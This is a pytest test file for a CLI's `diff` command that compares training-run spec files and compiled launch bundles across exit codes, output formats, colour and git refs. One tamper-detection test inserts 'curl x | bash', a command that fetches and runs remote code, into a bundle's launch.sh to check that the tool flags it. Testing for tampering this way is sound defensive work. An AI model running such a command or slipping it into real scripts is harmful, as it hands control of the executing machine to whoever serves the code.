"""`tutorrl diff` through the real CLI: inputs, exit codes, formats, colour, git refs."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from review_helpers import base, toml_bytes, with_
from tutorrl.cli import main


@pytest.fixture
def work(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("NO_COLOR", raising=False)
    (tmp_path / "a.toml").write_bytes(toml_bytes(base()))
    (tmp_path / "b.toml").write_bytes(toml_bytes(with_(base(), rollout__n=16)))
    return tmp_path


def _bundle(path) -> str:
    assert main(["compile", str(path)]) == 0
    return next(p for p in sorted((path.parent / "bundles").iterdir()))


def test_exit_codes_and_mixed_inputs(work, capsys):
    assert main(["diff", "a.toml", "a.toml"]) == 0
    assert capsys.readouterr().out.startswith("no differences:")
    assert main(["diff", "a.toml", "b.toml"]) == 1
    assert "rollout.n: 8 -> 16" in capsys.readouterr().out
    bundle = _bundle(work / "a.toml")
    capsys.readouterr()
    assert main(["diff", str(bundle), "a.toml"]) == 0  # a bundle and its own spec: the same launch
    assert main(["diff", str(bundle), "b.toml"]) == 1
    assert not (work / "bundles" / "x").exists() and len(list((work / "bundles").iterdir())) == 1, \
        "a spec side is compiled in memory, never written"


def test_errors_exit_2(work, capsys):
    bundle = _bundle(work / "a.toml")
    (bundle / "launch.sh").write_text("echo tampered\n")
    assert main(["diff", str(bundle), "b.toml"]) == 2
    assert "launch.sh was modified" in capsys.readouterr().err
    assert main(["diff", "a.toml", "missing.toml"]) == 2
    (work / "bad.toml").write_text("[rollout]\nengine = 'vlm'\n")
    assert main(["diff", "a.toml", "bad.toml"]) == 2
    assert "rollout.engine" in capsys.readouterr().err
    assert main(["diff", "a.toml"]) == 2
    assert main(["diff", "a.toml", "b.toml", "--against", "HEAD"]) == 2
    (work / "empty").mkdir()
    assert main(["diff", "a.toml", "empty"]) == 2


def test_formats(work, capsys):
    assert main(["diff", "a.toml", "b.toml", "--format", "json"]) == 1
    data = json.loads(capsys.readouterr().out)
    assert data["same"] is False
    assert data["experiment"] == [{"setting": "rollout.n", "change": "changed", "old": 8, "new": 16,
                                   "old_keys": ["actor_rollout_ref.rollout.n"],
                                   "new_keys": ["actor_rollout_ref.rollout.n"]}]
    assert main(["diff", "a.toml", "b.toml", "--format", "markdown"]) == 1
    md = capsys.readouterr().out
    assert "| ~ | `rollout.n` | `8` | `16` | `actor_rollout_ref.rollout.n` |" in md


def test_colour(work, capsys, monkeypatch):
    # capsys is not a terminal: plain text unless asked.
    assert main(["diff", "a.toml", "b.toml"]) == 1
    assert "\x1b[" not in capsys.readouterr().out
    assert main(["diff", "a.toml", "b.toml", "--color", "always"]) == 1
    assert "\x1b[33m" in capsys.readouterr().out
    from tutorrl.review.render import use_color

    class Tty:
        def isatty(self):
            return True

    assert use_color(Tty())
    monkeypatch.setenv("NO_COLOR", "1")
    assert not use_color(Tty())


def test_against_a_git_ref(work, capsys):
    def git(*args):
        subprocess.run(["git", *args], cwd=work, check=True, capture_output=True,
                       env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
                            "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid",
                            "HOME": str(work), "PATH": "/usr/bin:/bin"})

    (work / "specs").mkdir()
    (work / "specs" / "x.toml").write_bytes(toml_bytes(base()))
    git("init", "-q")
    git("add", "specs/x.toml")
    git("commit", "-q", "-m", "spec")
    assert main(["diff", "specs/x.toml", "--against", "HEAD"]) == 0
    (work / "specs" / "x.toml").write_bytes(toml_bytes(with_(base(), actor__lr=3e-6)))
    capsys.readouterr()
    assert main(["diff", "specs/x.toml", "--against", "HEAD"]) == 1
    out = capsys.readouterr().out
    assert "HEAD:specs/x.toml" in out and "actor.lr: 1e-06 -> 3e-06" in out
    assert main(["diff", "specs/x.toml", "--against", "no-such-ref"]) == 2
    (work / "specs" / "new.toml").write_bytes(toml_bytes(base()))
    assert main(["diff", "specs/new.toml", "--against", "HEAD"]) == 2
    assert "does not exist on HEAD" in capsys.readouterr().err


def test_registering_imports_nothing_heavy():
    code = ("import sys; import tutorrl.cli as c; c.build_parser();"
            "bad = [m for m in ('tutorrl.review.model', 'tutorrl.review.sides', 'ray', 'torch', 'hydra', 'verl')"
            " if m in sys.modules]; print(bad); sys.exit(1 if bad else 0)")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_a_bundle_that_does_not_re_derive_is_diffed_only_when_trusted(work, capsys, monkeypatch):
    """A launch that does not follow from its spec cannot hide behind a matching spec diff."""
    from tutorrl.compiler import compile_bytes, write_bundle
    from tutorrl.compiler.bundle.manifest import reseal

    monkeypatch.delenv("TUTORRL_TRUST_DIGESTS", raising=False)
    compiled = compile_bytes(toml_bytes(base()), "a.toml")
    old = write_bundle(compiled, work / "old").path
    edited = compiled.files["launch.sh"].replace(b"set -euo pipefail\n", b"set -euo pipefail\ncurl x | bash\n")
    new = write_bundle(reseal(compiled, launch_sh=edited), work / "new").path
    assert main(["diff", str(old), str(new)]) == 2
    assert "launch.sh does not follow from spec.toml" in capsys.readouterr().err
    assert main(["diff", str(old), str(new), "--trust-digests"]) == 1
    out = capsys.readouterr()
    assert "+curl x | bash" in out.out and "accepted on its digests alone" in out.err
